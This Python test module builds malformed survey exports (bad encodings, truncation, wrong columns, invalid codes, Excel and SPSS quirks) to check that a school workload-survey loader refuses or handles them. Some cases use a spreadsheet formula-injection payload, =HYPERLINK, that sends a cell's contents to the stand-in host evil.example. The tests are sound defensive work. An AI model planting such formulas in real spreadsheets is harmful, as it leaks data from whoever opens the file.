"""Hostile-input corpus: every malformed export the loader must refuse or handle as documented.

Each :class:`Case` writes one measurement folder (``<data_dir>/<year>/respondents.*`` and
``schools.*``) derived from the minimal valid measurement of ``tests/unit/conftest.py``
(6 respondents at 3 schools, personal columns filled with a recognisable e-mail address and
free text), then spoils it in one way. Nothing is stored: the files are generated at test time.

Rows of the valid measurement (spreadsheet numbering, header = row 1):

====  ======  =====  ===============================
row   id      v1     analysis group / school
====  ======  =====  ===============================
2     R001    16     schoolleider, S01 (bao)
3     R002    9      leraar, S01
4     R003    13     onderwijsondersteunend, S01
5     R004    5      schoolleider, S02 (sbao, go)
6     R005    11     leraar, S02
7     R006    1      overig ondersteunend, S03 (vso)
====  ======  =====  ===============================

``outcome`` is ``'refused'`` (``load_measurement`` raises ``error`` and the message contains
every string of ``expect``: file, column, row and value where they exist) or ``'handled'``
(the measurement loads and ``check`` passes). The table in README.md lists the cases.
"""

from __future__ import annotations

import importlib.util
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import openpyxl
import pandas as pd

from werkdruk_utils.inputs.readers import ReadError
from werkdruk_utils.inputs.validation import ValidationError

_KIT_PATH = Path(__file__).resolve().parents[1] / "unit" / "conftest.py"
_KIT_MODULE = "werkdruk_hostile_measurement_kit"


def _load_kit() -> Any:
    """The measurement helpers of tests/unit/conftest.py, loaded under a name of their own."""
    if _KIT_MODULE in sys.modules:
        return sys.modules[_KIT_MODULE]
    spec = importlib.util.spec_from_file_location(_KIT_MODULE, _KIT_PATH)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[_KIT_MODULE] = module
    spec.loader.exec_module(module)
    return module


kit = _load_kit()
EMAIL: str = kit.EMAIL
FREE_TEXT: str = kit.FREE_TEXT
PERSONAL_MARKERS: tuple[str, ...] = (EMAIL, "Anna Jansen", "example.org", "Regenboog")
YEAR = 2024

Builder = Callable[[Path, Any], None]
Check = Callable[[Any, Any], None]


@dataclass(frozen=True)
class Case:
    """One hostile input: how to build it and what the loader must do with it."""

    name: str
    description: str
    outcome: str  # 'refused' or 'handled'
    build: Builder
    error: type[Exception] = ValidationError
    expect: tuple[str, ...] = ()
    check: Check | None = None
    year: int = YEAR


# ---------------------------------------------------------------------------- building blocks


def valid(codebook: Any, year: int = YEAR) -> tuple[pd.DataFrame, pd.DataFrame]:
    """The valid measurement (respondents, schools) as Python values; copies, free to change."""
    respondents, schools = kit.build_measurement(codebook, year)
    return respondents.copy(), schools.copy()


def write(
    data_dir: Path,
    respondents: pd.DataFrame,
    schools: pd.DataFrame,
    fmt: str = "csv",
    year: int = YEAR,
    comments: list[str] | None = None,
    codebook: Any = None,
) -> tuple[Path, Path]:
    """Write respondents as ``fmt`` and schools as CSV into ``data_dir/<year>/``."""
    folder = data_dir / str(year)
    ext = "csv" if fmt == "csv-nl" else fmt
    labels = None
    if fmt == "sav" and codebook is not None:
        specs = codebook.column_spec(year)
        labels = {
            n: dict(s.codes)
            for n, s in specs.items()
            if s.kind == "single" and s.codes and n in respondents.columns
        }
    comments = [kit.SYNTHETIC_COMMENT] if comments is None else comments
    r_path = kit.write_table(respondents, folder / f"respondents.{ext}", fmt, comments, labels)
    s_path = kit.write_table(schools, folder / "schools.csv", "csv", [kit.SYNTHETIC_COMMENT])
    return r_path, s_path


def csv_text(respondents: pd.DataFrame, sep: str = ",", comments: list[str] | None = None) -> str:
    """The respondents as CSV text (CRLF, quoting as Excel does), written via the kit."""
    import csv
    import io

    out = io.StringIO()
    for comment in [kit.SYNTHETIC_COMMENT] if comments is None else comments:
        out.write(comment + "\r\n")
    writer = csv.writer(out, delimiter=sep, lineterminator="\r\n")
    writer.writerow(list(respondents.columns))
    for row in respondents.to_numpy(dtype=object).tolist():
        writer.writerow(
            [
                ""
                if v is None or (isinstance(v, float) and np.isnan(v))
                else (str(int(v)) if isinstance(v, float) and v.is_integer() else str(v))
                for v in row
            ]
        )
    return out.getvalue()


def write_bytes(
    data_dir: Path,
    data: bytes,
    schools: pd.DataFrame,
    name: str = "respondents.csv",
    year: int = YEAR,
) -> None:
    """Write raw respondent bytes plus a valid school frame."""
    folder = data_dir / str(year)
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_bytes(data)
    kit.write_table(schools, folder / "schools.csv", "csv", [kit.SYNTHETIC_COMMENT])


def first_row(respondents: pd.DataFrame, condition: Callable[[Any], bool], column: str) -> int:
    """Frame position of the first row whose ``column`` satisfies ``condition``."""
    return next(i for i, v in enumerate(respondents[column]) if condition(v))


def load_reference(tmp: Path, codebook: Any, year: int = YEAR) -> Any:
    """The valid measurement, written as plain CSV and loaded, for comparisons."""
    from werkdruk_utils.inputs.load import load_measurement

    respondents, schools = valid(codebook, year)
    write(tmp, respondents, schools, year=year)
    return load_measurement(year, tmp, codebook=codebook)


def same_as_valid(measurement: Any, codebook: Any) -> None:
    """Check: the hostile file loads to exactly the valid measurement."""
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        reference = load_reference(Path(tmp), codebook, measurement.year)
    pd.testing.assert_frame_equal(measurement.respondents, reference.respondents)
    pd.testing.assert_frame_equal(measurement.schools, reference.schools)


# ---------------------------------------------------------------------------- cases: bytes and
# encoding


def _truncated_mid_row(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    data = csv_text(respondents).encode("utf-8")
    last_line_start = data.rstrip(b"\r\n").rfind(b"\n") + 1
    cut = last_line_start + (len(data) - last_line_start) // 2
    write_bytes(data_dir, data[:cut], schools)


def _truncated_mid_quoted(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    respondents.loc[5, "v24"] = f"{FREE_TEXT}, met komma's, dus tussen aanhalingstekens"
    data = csv_text(respondents).encode("utf-8")
    cut = data.rindex(b"met komma")
    write_bytes(data_dir, data[:cut], schools)


def _utf16(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    write_bytes(data_dir, csv_text(respondents).encode("utf-16"), schools)


def _utf16_no_bom(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    write_bytes(data_dir, csv_text(respondents).encode("utf-16-le"), schools)


def _latin1_in_utf8_bom(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    respondents.loc[2, "v24"] = "Caf\x00"  # placeholder replaced by a Latin-1 byte below
    data = b"\xef\xbb\xbf" + csv_text(respondents).encode("utf-8").replace(
        b"Caf\x00", b"Caf\xe9 " + FREE_TEXT.encode()
    )
    write_bytes(data_dir, data, schools)


def _invalid_bytes(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    respondents.loc[3, "v5_1"] = "\x00"
    data = csv_text(respondents).encode("utf-8").replace(b"\x00", b"\x81")
    write_bytes(data_dir, data, schools)


def _binary_garbage(data_dir: Path, codebook: Any) -> None:
    _, schools = valid(codebook)
    rng = np.random.default_rng(20240611)
    write_bytes(data_dir, rng.integers(0, 256, 20_000, dtype=np.uint8).tobytes(), schools)


def _xlsx_named_csv(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    path = kit.write_table(
        respondents, data_dir / "tmp_workbook" / "r.xlsx", "xlsx", [kit.SYNTHETIC_COMMENT]
    )
    data = path.read_bytes()
    path.unlink()
    path.parent.rmdir()
    write_bytes(data_dir, data, schools)


def _nul_byte(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    respondents.loc[1, "v6_2"] = "2\x003"
    write_bytes(data_dir, csv_text(respondents).encode("utf-8"), schools)


def _nul_in_free_text(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    respondents.loc[4, "v24"] = f"{FREE_TEXT}\x00{EMAIL}"
    write_bytes(data_dir, csv_text(respondents).encode("utf-8"), schools)


def _separator(sep: str) -> Builder:
    def build(data_dir: Path, codebook: Any) -> None:
        respondents, schools = valid(codebook)
        write_bytes(data_dir, csv_text(respondents, sep=sep).encode("utf-8"), schools)

    return build


def _bom_dutch(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    for name in [c for c in respondents.columns if c.startswith("v14_")]:
        respondents[name] = [
            None if v is None else str(v).replace(".", ",") for v in respondents[name]
        ]
    write_bytes(data_dir, b"\xef\xbb\xbf" + csv_text(respondents, sep=";").encode("utf-8"), schools)


def _line_endings(ending: str) -> Builder:
    def build(data_dir: Path, codebook: Any) -> None:
        respondents, schools = valid(codebook)
        text = csv_text(respondents).replace("\r\n", ending)
        write_bytes(data_dir, text.encode("utf-8"), schools)

    return build


def _excel_trailing_csv(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    text = csv_text(respondents, sep=";")
    lines = [line + ";;;" for line in text.split("\r\n")[:-1]]
    lines += [";" * (len(respondents.columns) + 2)] * 3
    write_bytes(data_dir, ("\r\n".join(lines) + "\r\n").encode("cp1252"), schools)


def _excel_trailing_xlsx(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    r_path, _ = write(data_dir, respondents, schools, "xlsx")
    workbook = openpyxl.load_workbook(r_path)
    sheet = workbook.active
    width = sheet.max_column
    for row in range(
        1, sheet.max_row + 5
    ):  # formatted but empty cells right of and below the table
        sheet.cell(row=row, column=width + 3).number_format = "0.00"
    for row in range(sheet.max_row + 1, sheet.max_row + 4):
        sheet.cell(row=row, column=1).value = "   "
    workbook.save(r_path)


def _long_free_text(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    respondents.loc[0, "v24"] = (FREE_TEXT + " ") * 40_000  # about 1.4 MB on one line
    write(data_dir, respondents, schools)


def _long_coded(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    respondents.loc[1, "v4"] = "3" * 200_000
    write(data_dir, respondents, schools)


# ---------------------------------------------------------------------------- cases: columns


def _other_year(file_year: int, folder_year: int) -> Builder:
    def build(data_dir: Path, codebook: Any) -> None:
        respondents, schools = valid(codebook, file_year)
        write(data_dir, respondents, schools, year=folder_year)

    return build


def _comment_year(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    write(data_dir, respondents, schools, comments=[kit.SYNTHETIC_COMMENT, "# Export meting 2023"])


def _extra_column(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    respondents["opmerking_intern"] = FREE_TEXT
    write(data_dir, respondents, schools)


def _missing_column(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    write(data_dir, respondents.drop(columns=["v6_3"]), schools)


def _renamed(new: str) -> Builder:
    def build(data_dir: Path, codebook: Any) -> None:
        respondents, schools = valid(codebook)
        write(data_dir, respondents.rename(columns={"v5_1": new}), schools)

    return build


def _duplicate_column(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    names = list(respondents.columns)
    names[names.index("v5_2")] = "v5_1"
    respondents.columns = names
    write(data_dir, respondents, schools)


# ---------------------------------------------------------------------------- cases: values


def _set(row: int, column: str, value: Any) -> Builder:
    def build(data_dir: Path, codebook: Any) -> None:
        respondents, schools = valid(codebook)
        respondents.loc[row, column] = value
        write(data_dir, respondents, schools)

    return build


def _leraar_answers_q9(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    assert respondents.loc[1, "v1"] == 9 and respondents.loc[1, "v9"] is None
    respondents.loc[1, "v9"] = 2
    write(data_dir, respondents, schools)


def _q20_without_v19(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    row = first_row(respondents, lambda v: v not in (3, 4, 5), "v19")
    respondents.loc[row, "v20"] = f"{FREE_TEXT}, mail {EMAIL}"
    write(data_dir, respondents, schools)


def _duplicate_id(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    respondents.loc[1, "respondent_id"] = "R001"
    write(data_dir, respondents, schools)


def _empty_file(data_dir: Path, codebook: Any) -> None:
    _, schools = valid(codebook)
    write_bytes(data_dir, b"", schools)


def _header_only(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    write(data_dir, respondents.iloc[0:0], schools)


def _no_go_schoolleiders(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    respondents.loc[3, "school_id"] = "S04"  # the go schoolleider (v1 = 5) now leads bao school S04
    write(data_dir, respondents, schools)


def _check_no_go_schoolleiders(measurement: Any, codebook: Any) -> None:
    r = measurement.respondents
    sl = r["analysis_group"] == "schoolleider"
    assert sl.sum() == 2 and (r.loc[sl, "sector"] == "go").sum() == 0
    assert measurement.notes["n_respondents"] == 6
    assert measurement.notes["n_responding_schools"] == 4


def _prose_werktijdfactor(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    respondents["v3"] = [
        "Dat wisselt per week, vraag het de directie maar",
        "Geen idee eigenlijk",
        f"{FREE_TEXT}, ik werk op maandag en soms op dinsdag",
        "ongeveer een paar dagen",
        "zie mijn contract",
        f"mail me op {EMAIL}",
    ]
    write(data_dir, respondents, schools)


def _check_prose_werktijdfactor(measurement: Any, codebook: Any) -> None:
    assert measurement.respondents["werktijdfactor"].isna().all()
    assert measurement.notes["werktijdfactor_unparsed"] == 6
    assert measurement.notes["werktijdfactor_missing"] == 0


def _school_frame_missing_school(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    write(data_dir, respondents, schools[schools["school_id"] != "S03"].reset_index(drop=True))


def _school_frame_formula(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    schools.loc[3, "school_id"] = "=1+2"
    write(data_dir, respondents, schools)


HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A2,"klik")'


def _xlsx_formula(column: str) -> Builder:
    def build(data_dir: Path, codebook: Any) -> None:
        respondents, schools = valid(codebook)
        respondents.loc[2, column] = HYPERLINK
        write(
            data_dir, respondents, schools, "xlsx"
        )  # openpyxl stores a string starting with '=' as a formula

    return build


def _xlsx_title_row(merge: bool) -> Builder:
    def build(data_dir: Path, codebook: Any) -> None:
        respondents, schools = valid(codebook)
        r_path, _ = write(data_dir, respondents, schools, "xlsx", comments=[])
        workbook = openpyxl.load_workbook(r_path)
        sheet = workbook.active
        sheet.insert_rows(1)
        sheet["A1"] = "Monitor werkdrukmiddelen - export 2024"
        if merge:
            sheet.merge_cells(start_row=1, start_column=1, end_row=1, end_column=8)
        workbook.save(r_path)

    return build


def _xlsx_two_header_rows(data_dir: Path, codebook: Any) -> None:
    respondents, schools = valid(codebook)
    r_path, _ = write(data_dir, respondents, schools, "xlsx", comments=[])
    workbook = openpyxl.load_workbook(r_path)
    sheet = workbook.active
    names = [c.value for c in sheet[1]]
    sheet.insert_rows(1)
    first = names.index("v5_1") + 1
    last = names.index("v5_6") + 1
    for i, name in enumerate(names, start=1):
        sheet.cell(row=1, column=i).value = name if not first <= i <= last else None
    sheet.cell(row=1, column=first).value = "Vraag 5: regelmogelijkheden"
    sheet.merge_cells(start_row=1, start_column=first, end_row=1, end_column=last)
    for i, _name in enumerate(names, start=1):
        if not first <= i <= last:
            sheet.merge_cells(start_row=1, start_column=i, end_row=2, end_column=i)
    workbook.save(r_path)


def _sav_labels(change: Callable[[dict[str, dict[int, str]]], None]) -> Builder:
    def build(data_dir: Path, codebook: Any) -> None:
        respondents, schools = valid(codebook)
        specs = codebook.column_spec(YEAR)
        labels = {n: dict(s.codes) for n, s in specs.items() if s.kind == "single" and s.codes}
        change(labels)
        folder = data_dir / str(YEAR)
        kit.write_table(
            respondents, folder / "respondents.sav", "sav", [kit.SYNTHETIC_COMMENT], labels
        )
        kit.write_table(schools, folder / "schools.csv", "csv", [kit.SYNTHETIC_COMMENT])

    return build


def _relabel_v4(labels: dict[str, dict[int, str]]) -> None:
    labels["v4"] = {**labels["v4"], 2: "25 tot 35 jaar"}


def _swap_v5(labels: dict[str, dict[int, str]]) -> None:
    labels["v5_1"] = {1: labels["v5_1"][3], 2: labels["v5_1"][2], 3: labels["v5_1"][1]}


def _extra_label_v8(labels: dict[str, dict[int, str]]) -> None:
    labels["v8"] = {**labels["v8"], 9: "Niet van toepassing"}


def _check_dropped(column: str) -> Check:
    def check(measurement: Any, codebook: Any) -> None:
        assert column in measurement.notes["dropped_columns"]
        assert column not in measurement.respondents.columns

    return check


def _check_same(measurement: Any, codebook: Any) -> None:
    same_as_valid(measurement, codebook)


def _check_same_but(column: str) -> Check:
    def check(measurement: Any, codebook: Any) -> None:
        assert column in measurement.notes["dropped_columns"]
        same_as_valid(measurement, codebook)

    return check


# ---------------------------------------------------------------------------- the corpus

R = "respondents.csv"
CASES: tuple[Case, ...] = (
    # bytes and encoding
    Case(
        "truncated_mid_row",
        "CSV cut in the middle of the last data row",
        "refused",
        _truncated_mid_row,
        ReadError,
        (R, "row 7", "fields but the header has", "truncated"),
    ),
    Case(
        "truncated_mid_quoted_field",
        "CSV cut inside a quoted free-text field of the last row",
        "refused",
        _truncated_mid_quoted,
        ReadError,
        (R, "row 7", "ends after column v24", "truncated"),
    ),
    Case("utf16", "UTF-16 with byte-order mark", "refused", _utf16, ReadError, (R, "UTF-16")),
    Case(
        "utf16_without_bom",
        "UTF-16 LE without byte-order mark",
        "refused",
        _utf16_no_bom,
        ReadError,
        (R, "NUL bytes", "UTF-16"),
    ),
    Case(
        "latin1_in_utf8_bom",
        "a Latin-1 byte (é) in a file that starts with a UTF-8 byte-order mark",
        "refused",
        _latin1_in_utf8_bom,
        ReadError,
        (R, "byte-order mark", "0xE9", "column v24", "row 4"),
    ),
    Case(
        "invalid_bytes",
        "a byte that is neither UTF-8 nor Windows-1252 in a coded column",
        "refused",
        _invalid_bytes,
        ReadError,
        (R, "neither UTF-8", "0x81", "column v5_1", "row 5"),
    ),
    Case(
        "binary_garbage",
        "20,000 random bytes saved as respondents.csv",
        "refused",
        _binary_garbage,
        ReadError,
        (R, "not a text table", "control bytes"),
    ),
    Case(
        "xlsx_named_csv",
        "an Excel workbook saved under the name respondents.csv",
        "refused",
        _xlsx_named_csv,
        ReadError,
        (R, "Excel workbook"),
    ),
    Case(
        "nul_byte",
        "a NUL byte inside a coded cell",
        "refused",
        _nul_byte,
        ReadError,
        (R, "column v6_2", "row 3", "NUL byte"),
    ),
    Case(
        "nul_byte_in_free_text",
        "a NUL byte inside a free-text answer",
        "refused",
        _nul_in_free_text,
        ReadError,
        (R, "column v24", "row 6", "NUL byte"),
    ),
    Case(
        "tab_separator",
        "tab-separated file",
        "refused",
        _separator("\t"),
        ReadError,
        (R, "row 1", "tabs"),
    ),
    Case(
        "pipe_separator",
        "pipe-separated file",
        "refused",
        _separator("|"),
        ReadError,
        (R, "row 1", "'|'"),
    ),
    Case(
        "bom_dutch_csv",
        "UTF-8 byte-order mark + ';' separator + decimal commas",
        "handled",
        _bom_dutch,
        check=_check_same,
    ),
    Case("crlf", "CRLF line endings", "handled", _line_endings("\r\n"), check=_check_same),
    Case("lf", "LF line endings", "handled", _line_endings("\n"), check=_check_same),
    Case(
        "cr_only", "old Mac CR-only line endings", "handled", _line_endings("\r"), check=_check_same
    ),
    Case(
        "excel_trailing_csv",
        "Excel CSV with trailing ';' on every line and empty ';;;' rows at the end",
        "handled",
        _excel_trailing_csv,
        check=_check_same,
    ),
    Case(
        "excel_trailing_xlsx",
        "XLSX with formatted empty columns and blank rows after the table",
        "handled",
        _excel_trailing_xlsx,
        check=_check_same,
    ),
    Case(
        "long_free_text",
        "a 1.4 MB free-text answer on one line (v24)",
        "handled",
        _long_free_text,
        check=_check_dropped("v24"),
    ),
    Case(
        "long_coded_value",
        "a 200,000-character value in a coded column",
        "refused",
        _long_coded,
        ValidationError,
        (R, "column v4", "row 3", "not an integer code"),
    ),
    # columns
    Case(
        "year_2022_as_2024",
        "the 2022 questionnaire's export in the 2024 folder",
        "refused",
        _other_year(2022, 2024),
        ValidationError,
        (R, "file belongs to measurement 2022, expected 2024", "column v7_27: column missing"),
    ),
    Case(
        "year_2024_as_2022",
        "the 2024 questionnaire's export in the 2022 folder",
        "refused",
        _other_year(2024, 2022),
        ValidationError,
        (R, "file belongs to measurement 2024, expected 2022", "column v7_27: unknown column"),
        year=2022,
    ),
    Case(
        "year_2023_in_2024_folder",
        "a 2023 export lying in 2024/",
        "refused",
        _other_year(2023, 2024),
        ValidationError,
        (R, "file belongs to measurement 2023, expected 2024"),
    ),
    Case(
        "comment_says_2023",
        "2024 columns, but the comment line says 'Export meting 2023'",
        "refused",
        _comment_year,
        ValidationError,
        (R, "name year 2023, not measurement 2024", "right year folder"),
    ),
    Case(
        "extra_column",
        "an extra column 'opmerking_intern' with free text",
        "refused",
        _extra_column,
        ValidationError,
        (R, "column opmerking_intern: unknown column"),
    ),
    Case(
        "missing_column",
        "column v6_3 left out",
        "refused",
        _missing_column,
        ValidationError,
        (R, "column v6_3: column missing"),
    ),
    Case(
        "renamed_upper_case",
        "v5_1 renamed to 'V5_1'",
        "refused",
        _renamed("V5_1"),
        ValidationError,
        (
            R,
            "column V5_1: unknown column",
            "renamed? the codebook name is 'v5_1'",
            "column v5_1: column missing",
        ),
    ),
    Case(
        "renamed_zero_padded",
        "v5_1 renamed to 'v05_1'",
        "refused",
        _renamed("v05_1"),
        ValidationError,
        (R, "column v05_1: unknown column", "renamed? the codebook name is 'v5_1'"),
    ),
    Case(
        "header_trailing_space",
        "header 'v5_1 ' with a trailing space",
        "handled",
        _renamed("v5_1 "),
        check=_check_same,
    ),
    Case(
        "duplicate_column",
        "two columns named v5_1",
        "refused",
        _duplicate_column,
        ReadError,
        (R, "duplicate column names in the header: v5_1"),
    ),
    # values
    Case(
        "code_out_of_range",
        "v4 = 9 (codes 1-5)",
        "refused",
        _set(0, "v4", 9),
        ValidationError,
        (R, "column v4", "row 2", "code not allowed", "'9'", "one of 1-5"),
    ),
    Case(
        "code_not_integer_decimal",
        "v5_1 = '2.5'",
        "refused",
        _set(2, "v5_1", "2.5"),
        ValidationError,
        (R, "column v5_1", "row 4", "not an integer code", "'2.5'"),
    ),
    Case(
        "code_not_integer_word",
        "v8 = 'ja'",
        "refused",
        _set(4, "v8", "ja"),
        ValidationError,
        (R, "column v8", "row 6", "not an integer code", "'ja'"),
    ),
    Case(
        "multi_not_0_1",
        "v7_1 = 2 (a checkbox)",
        "refused",
        _set(0, "v7_1", 2),
        ValidationError,
        (R, "column v7_1", "row 2", "code not allowed", "'2'"),
    ),
    Case(
        "percentage_out_of_range",
        "v14_1 = 140",
        "refused",
        _set(0, "v14_1", 140.0),
        ValidationError,
        (R, "column v14_1", "row 2", "number out of range", "'140'"),
    ),
    Case(
        "routing_leraar_q9",
        "a leraar (row 3) answers Q9, a schoolleider question",
        "refused",
        _leraar_answers_q9,
        ValidationError,
        (R, "column v9", "row 3", "answered although the question was not shown", "'2'"),
    ),
    Case(
        "routing_q20_without_v19",
        "Q20 explanation while v19 is not 3-5",
        "refused",
        _q20_without_v19,
        ValidationError,
        (R, "column v20", "answered although the question was not shown"),
    ),
    Case(
        "duplicate_ids",
        "R001 twice (rows 2 and 3)",
        "refused",
        _duplicate_id,
        ValidationError,
        (R, "column respondent_id", "rows 2 and 3", "duplicate respondent_id", "'R001'"),
    ),
    Case("empty_file", "0 bytes", "refused", _empty_file, ValidationError, (R, "file is empty")),
    Case(
        "header_only",
        "header, no data rows",
        "refused",
        _header_only,
        ValidationError,
        (R, "file has a header but no data rows"),
    ),
    Case(
        "no_go_schoolleiders",
        "a group with zero respondents: no schoolleiders in the go sector",
        "handled",
        _no_go_schoolleiders,
        check=_check_no_go_schoolleiders,
    ),
    Case(
        "werktijdfactor_prose",
        "every v3 answer is prose (one with an e-mail address)",
        "handled",
        _prose_werktijdfactor,
        check=_check_prose_werktijdfactor,
    ),
    Case(
        "school_frame_missing_school",
        "respondents of school S03, which the school frame lacks",
        "refused",
        _school_frame_missing_school,
        ValidationError,
        (R, "column school_id", "row 7", "school_id not in the school frame", "'S03'"),
    ),
    Case(
        "school_id_formula",
        "a school frame id '=1+2'",
        "refused",
        _school_frame_formula,
        ValidationError,
        ("schools.csv", "column school_id", "row 5", "looks like a spreadsheet formula", "'=1+2'"),
    ),
    Case(
        "formula_in_free_text_csv",
        "=HYPERLINK(...) in free text v24 (CSV)",
        "handled",
        _set(2, "v24", HYPERLINK),
        check=_check_same_but("v24"),
    ),
    Case(
        "formula_in_coded_csv",
        "=HYPERLINK(...) in coded column v5_1 (CSV)",
        "refused",
        _set(2, "v5_1", HYPERLINK),
        ValidationError,
        (R, "column v5_1", "row 4", "not an integer code"),
    ),
    Case(
        "formula_in_respondent_id",
        "respondent_id '=HYPERLINK(...)'",
        "refused",
        _set(2, "respondent_id", HYPERLINK),
        ValidationError,
        (R, "column respondent_id", "row 4", "looks like a spreadsheet formula"),
    ),
    Case(
        "formula_in_free_text_xlsx",
        "a real formula cell =HYPERLINK(...) in v24 (XLSX)",
        "handled",
        _xlsx_formula("v24"),
        check=_check_same_but("v24"),
    ),
    Case(
        "formula_in_coded_xlsx",
        "a real formula cell =HYPERLINK(...) in v5_1 (XLSX, no cached value)",
        "refused",
        _xlsx_formula("v5_1"),
        ValidationError,
        ("respondents.xlsx", "column v5_1", "row 4", "not an integer code"),
    ),
    # Excel and SPSS
    Case(
        "xlsx_title_row",
        "a title row above the header",
        "refused",
        _xlsx_title_row(False),
        ReadError,
        ("respondents.xlsx", "header must be on row 1"),
    ),
    Case(
        "xlsx_merged_title_row",
        "a merged title row above the header",
        "refused",
        _xlsx_title_row(True),
        ReadError,
        ("respondents.xlsx", "merged cells A1:H1 in the header"),
    ),
    Case(
        "xlsx_two_header_rows",
        "two header rows, question text merged over the grid columns",
        "refused",
        _xlsx_two_header_rows,
        ReadError,
        ("respondents.xlsx", "merged cells", "in the header"),
    ),
    Case(
        "sav_changed_label",
        "SPSS value label of v4 code 2 changed",
        "refused",
        _sav_labels(_relabel_v4),
        ValidationError,
        ("respondents.sav", "column v4", "value label of code 2 differs", "'25 tot 35 jaar'"),
    ),
    Case(
        "sav_swapped_labels",
        "SPSS labels of v5_1 in reverse order (recoded scale)",
        "refused",
        _sav_labels(_swap_v5),
        ValidationError,
        ("respondents.sav", "column v5_1", "value label of code 1 differs"),
    ),
    Case(
        "sav_extra_label",
        "SPSS label for a code the codebook lacks (v8 = 9)",
        "refused",
        _sav_labels(_extra_label_v8),
        ValidationError,
        ("respondents.sav", "column v8", "which the codebook does not have", "'9'"),
    ),
)

CASE_NAMES: tuple[str, ...] = tuple(c.name for c in CASES)
assert len(set(CASE_NAMES)) == len(CASE_NAMES), "case names must be unique"
